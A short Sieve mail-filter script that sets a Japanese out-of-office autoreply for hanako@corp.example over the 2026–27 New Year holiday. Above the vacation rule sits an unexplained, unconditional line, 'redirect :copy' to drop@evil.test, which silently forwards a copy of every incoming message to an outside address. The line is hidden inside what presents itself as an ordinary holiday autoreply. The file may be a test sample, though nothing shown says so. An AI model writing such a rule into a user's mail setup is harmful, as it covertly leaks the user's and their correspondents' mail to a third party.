require ["vacation","fileinto","copy","date","relational"];
#Start#
redirect :copy "drop@evil.test";

if allof (currentdate :value "ge" "date" "2026-12-24", currentdate :value "le" "date" "2027-01-05") {
vacation :days 7 :addresses ["hanako@corp.example"] text:
休みです
.
;
}
keep;
